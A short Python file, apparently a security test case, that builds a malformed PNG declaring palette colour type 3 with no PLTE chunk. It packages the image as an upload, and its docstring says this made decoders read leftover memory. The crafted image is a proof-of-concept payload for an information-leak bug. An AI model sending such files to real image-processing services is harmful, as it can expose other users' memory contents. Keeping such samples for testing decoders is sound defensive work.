"""A PNG that needs a palette and has none, which made decoders read what lay in memory."""

import zlib


def upload(kit):
    png, header = kit.tools.png, kit.tools.png_header
    payload = png(header(colour=3), (b"IDAT", zlib.compress(bytes(33 * 32))), (b"IEND", b""))
    return kit.image({"payload": kit.tools.File(payload)}).tar()
